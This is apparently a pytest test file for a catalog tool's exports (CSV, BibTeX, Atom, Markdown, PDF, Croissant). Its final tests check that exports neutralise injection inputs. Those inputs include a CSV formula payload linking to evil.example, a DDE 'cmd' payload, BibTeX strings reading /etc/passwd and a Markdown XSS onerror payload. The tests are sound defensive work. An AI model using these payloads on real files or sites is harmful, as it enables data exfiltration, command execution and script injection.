"""Exports: CSV round-trips, BibTeX parses, Atom is well-formed, Markdown links are catalog links, the PDF
has its parts, Croissant validates."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from urllib.parse import unquote

import pytest

from fmcheatsheet import Catalog
from fmcheatsheet.exports import FORMATS, ExportOptions, exporters
from fmcheatsheet.model import Links, Resource
from tests.conftest import run_cli
from tests.factory import SECTIONS, resource

ATOM = "{http://www.w3.org/2005/Atom}"
TRICKY = 'A tool, with "quotes", commas\nand a line break; it exists for tests and nothing else.'


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return Catalog.load()


def export(catalog: Catalog, fmt: str) -> str | bytes:
    return exporters()[fmt](catalog, list(catalog), ExportOptions(base_url="https://cheatsheet.example.org/"))


def test_csv_round_trips_one_row_per_resource(make_catalog: Callable[..., Path], tmp_path: Path) -> None:
    asked = ['how do I keep a comma, and a "quote"?', "one question per cell item"]
    tricky_resource = resource("tricky", name='Tricky, "Quoted" Name', description=TRICKY, questions=asked)
    root = make_catalog([tricky_resource, resource("plain")])
    out = tmp_path / "out.csv"
    assert run_cli("export", "csv", "-o", str(out), "--catalog", str(root)).code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert len(rows) == 2
    tricky = next(r for r in rows if r["id"] == "tricky")
    assert tricky["name"] == 'Tricky, "Quoted" Name'
    assert tricky["description"] == " ".join(TRICKY.split())  # descriptions are stored with single spaces
    assert tricky["questions"].split("; ") == asked


def test_jsonl_has_one_object_per_line(catalog: Catalog) -> None:
    lines = str(export(catalog, "jsonl")).splitlines()
    assert len(lines) == len(catalog)
    assert json.loads(lines[0])["id"] == next(iter(catalog)).id


def test_bibtex_parses_and_keys_are_unique_and_stable(catalog: Catalog) -> None:
    import bibtexparser

    text = str(export(catalog, "bibtex"))
    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks
    keys = [entry.key for entry in library.entries]
    with_paper = [r for r in catalog if r.links.paper]
    assert len(keys) == len(set(keys)) == len(with_paper)
    pile = next(e for e in library.entries if e.key == "thepile2020")
    assert pile.fields_dict["eprint"].value == "2101.00027"
    assert pile.entry_type == "misc"
    filtered = exporters()["bibtex"](catalog, catalog.filter(section="deduplication"), ExportOptions())
    assert "@misc{thepile2020," in str(filtered)  # a filter does not rename keys


def test_bibtex_keeps_dois(make_catalog: Callable[..., Path]) -> None:
    import bibtexparser

    root = make_catalog([resource("doi-paper", links={"paper": "10.18653/v1/2021.emnlp-main.98"}, released="2021-11")])
    library = bibtexparser.parse_string(
        str(exporters()["bibtex"](Catalog.load(root), list(Catalog.load(root)), ExportOptions()))
    )
    assert library.entries[0].fields_dict["doi"].value == "10.18653/v1/2021.emnlp-main.98"


def test_atom_feed_is_well_formed_with_required_elements(catalog: Catalog) -> None:
    feed = ET.fromstring(str(export(catalog, "atom")).encode("utf-8"))
    assert feed.tag == f"{ATOM}feed"
    for required in ("id", "title", "updated"):
        assert feed.find(f"{ATOM}{required}") is not None
    entries = feed.findall(f"{ATOM}entry")
    assert 0 < len(entries) <= 50
    for entry in entries:
        for required in ("id", "title", "updated"):
            assert (entry.findtext(f"{ATOM}{required}") or "").strip()
        link = entry.find(f"{ATOM}link[@rel='alternate']")
        assert link is not None and (link.get("href") or "").startswith("https://cheatsheet.example.org/")
    dates = [e.findtext(f"{ATOM}updated") or "" for e in entries]
    assert dates == sorted(dates, reverse=True)


def test_markdown_links_point_at_catalog_urls(catalog: Catalog) -> None:
    text = str(export(catalog, "markdown"))
    urls = {r.url for r in catalog}
    links = re.findall(r"\]\((https?://[^)\s]+)\)", text)
    assert len(links) >= len(catalog)  # a resource in two sections is listed twice
    assert set(links) <= urls
    for phase in catalog.phases:
        assert f"\n## {phase.title}\n" in text


def test_the_cheatsheet_is_a_few_landscape_pages_of_practices_and_resources_to_start_with(catalog: Catalog) -> None:
    from pypdf import PdfReader

    from fmcheatsheet.exports.pdf_export import START_WITH

    data = export(catalog, "pdf")
    assert isinstance(data, bytes)
    reader = PdfReader(io.BytesIO(data))
    assert 2 <= len(reader.pages) <= 4
    assert all(page.mediabox.width > page.mediabox.height for page in reader.pages)
    flat = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    assert flat.startswith("The Foundation Model Development Cheatsheet")
    for phase in catalog.phases:
        assert phase.title in flat
    for section in catalog.sections.values():
        assert " ".join(section.title.split()) in flat
        for practice in section.practices:
            assert " ".join(practice.title.split())[:30] in flat, practice.title
        for start in catalog.highlights(section.id, START_WITH):
            assert start.name.split()[0] in flat
    # Every resource name links to the resource; the icons are drawn, not typed.
    links = [a.get_object()["/A"]["/URI"] for page in reader.pages for a in page.get("/Annots", [])]
    for section_id in catalog.sections:
        assert catalog.highlights(section_id, 1)[0].url in links
    assert "localhost" not in flat and "127.0.0.1" not in flat
    assert "https://cheatsheet.example.org/" in flat
    assert export(catalog, "pdf") == data  # reproducible


def test_the_full_reference_has_a_cover_and_a_part_per_phase(catalog: Catalog) -> None:
    from pypdf import PdfReader

    data = export(catalog, "pdf-full")
    assert isinstance(data, bytes) and data.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(data))
    text = "\n".join(page.extract_text() for page in reader.pages)
    flat = " ".join(text.split())
    assert "The Foundation Model Development Cheatsheet" in " ".join(reader.pages[0].extract_text().split())
    for number, phase in enumerate(catalog.phases, 1):
        assert f"Part {number}. {phase.title}" in flat
    for section in catalog.sections.values():
        assert " ".join(section.title.split()) in flat
        top = catalog.highlights(section.id, 1)[0]
        assert top.name.split()[0] in flat
    assert "https://" in flat  # links are printed in full
    assert export(catalog, "pdf-full") == data  # reproducible


def test_pdf_text_wraps_at_spaces_within_the_box_and_splits_only_words_wider_than_it() -> None:
    from fpdf import FPDF

    from fmcheatsheet.exports.pdf_export import wrap

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", "", 10)
    text = "Use the full reference to read every practice. " * 6 + "https://example.org/" + "x" * 300
    lines = wrap(pdf, text + "\nA second paragraph.", 80)
    room = 80 - 2 * pdf.c_margin
    assert all(pdf.get_string_width(line) <= room for line in lines)
    assert lines[-1] == "A second paragraph."
    assert "".join(lines[:-1]).replace(" ", "") == text.replace(" ", "")
    # Breaks fall between words, and each line is as full as the next word allows.
    for line, following in itertools.pairwise(lines[:-1]):
        assert pdf.get_string_width(f"{line} {following.split(' ')[0]}") > room
    assert wrap(pdf, "", 80) == [""]


def test_croissant_validates_with_mlcroissant(catalog: Catalog, tmp_path: Path) -> None:
    mlc = pytest.importorskip("mlcroissant")
    path = tmp_path / "croissant.json"
    path.write_text(str(export(catalog, "croissant")), encoding="utf-8")
    dataset = mlc.Dataset(jsonld=str(path))
    fields = [f.name for f in dataset.metadata.record_sets[0].fields]
    assert fields[:3] == ["id", "name", "description"]


def test_exports_honour_filters(catalog: Catalog) -> None:
    result = run_cli("export", "jsonl", "--modality", "speech")
    rows = [json.loads(line) for line in result.out.splitlines()]
    assert rows and all("speech" in r["modalities"] for r in rows)


def test_pdf_export_writes_a_file(tmp_path: Path) -> None:
    out = tmp_path / "sheet.pdf"
    assert run_cli("export", "pdf", "-o", str(out)).code == 0
    assert out.read_bytes().startswith(b"%PDF")


def test_the_site_links_every_export_and_the_feed(bundled_site: Path) -> None:
    home = (bundled_site / "index.html").read_text(encoding="utf-8")
    browse = (bundled_site / "browse" / "index.html").read_text(encoding="utf-8")
    assert '<link rel="alternate" type="application/atom+xml" title="Changes to the catalog" href="feed.atom">' in home
    for export_format in FORMATS.values():
        assert f'href="{export_format.path}">{export_format.label}</a>' in home
        assert f'href="../{export_format.path}"' in browse
        assert (bundled_site / export_format.path).stat().st_size > 0


def constructed(rid: str, **fields: object) -> Resource:
    """A resource built without validation: exports must stay safe even for values the validator would refuse."""
    data = resource(rid, **fields)
    links = Links.model_construct(**data.pop("links"))
    return Resource.model_construct(**{**data, "links": links, "tags": data.get("tags", []), "featured": False})


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1"]
)
def test_csv_cells_never_start_a_formula(make_catalog: Callable[..., Path], text: str) -> None:
    root = make_catalog([resource("formula", name=text.strip() or "x", description=text + " " + TRICKY)])
    rows = list(csv.DictReader(io.StringIO(str(export(Catalog.load(root), "csv")), newline="")))
    for cell in (rows[0]["name"], rows[0]["description"]):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert cell.startswith("'")


@pytest.mark.parametrize(
    "paper",
    [
        "https://example.org/},note={\\input{/etc/passwd}}",
        "https://arxiv.org/abs/x},note={\\input{/etc/passwd}}",
        "10.1234/x},note={\\input{/etc/passwd}}",
    ],
)
def test_bibtex_fields_cannot_be_broken_out_of(make_catalog: Callable[..., Path], paper: str) -> None:
    import bibtexparser

    name = "Evil} Name{ \\input{x} 50%"
    root = make_catalog([resource("injected", name=name, links={"website": "https://example.org/", "paper": paper})])
    text = str(export(Catalog.load(root), "bibtex"))
    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks
    [entry] = library.entries
    fields = entry.fields_dict
    assert set(fields) <= {"title", "year", "month", "eprint", "archiveprefix", "doi", "url", "note"}
    assert "passwd" not in fields["note"].value and fields["note"].value.startswith("Evil")
    assert text.count("{") == text.count("}")
    assert "\\input" not in text


def test_markdown_text_cannot_add_headings_or_break_links(make_catalog: Callable[..., Path]) -> None:
    from markdown_it import MarkdownIt

    url = "https://example.org/a)<img/src=x/onerror=alert(1)>(b\\c"
    description = "Evil\n\n## Injected sub-heading\n\n- injected item & more &copy; words to reach forty chars"
    root = make_catalog(
        [resource("evil", name="Evil\n\n# Injected heading", description=description, links={"website": url})]
    )
    catalog = Catalog.load(root)
    html = MarkdownIt("commonmark").render(str(export(catalog, "markdown")))
    assert "Injected heading</h1>" not in html and "Injected sub-heading</h2>" not in html
    assert "<li>injected item" not in html and "&amp;copy;" in html
    [href] = [h for h in re.findall(r'href="([^"]+)"', html) if "example.org" in h]
    assert unquote(href.replace("&amp;", "&")) == url


def test_markdown_guidance_cannot_start_a_block(make_catalog: Callable[..., Path]) -> None:
    from markdown_it import MarkdownIt

    sections = {
        sid: {**body, "scope": f"{start} {body['scope']}"}
        for (sid, body), start in zip(SECTIONS.items(), ["1. Numbered", "- Bullet", "> Quote"], strict=True)
    }
    root = make_catalog([resource("plain")], sections=sections)
    html = MarkdownIt("commonmark").render(str(export(Catalog.load(root), "markdown")))
    assert "<ol>" not in html and "<blockquote>" not in html and "<li>Bullet" not in html


def test_the_feed_stays_well_formed_whatever_the_text() -> None:
    from fmcheatsheet.exports.atom_export import to_atom

    evil = constructed("evil", name="Evil \uffff\ufffe name", description="Text with \x01 and \ufffe " * 3)
    catalog = Catalog(Path(), [], {}, {"evil": evil})
    feed = ET.fromstring(to_atom(catalog, [evil], ExportOptions()).encode("utf-8"))
    assert feed.findtext(f"{ATOM}entry/{ATOM}title") == "Evil \ufffd\ufffd name"
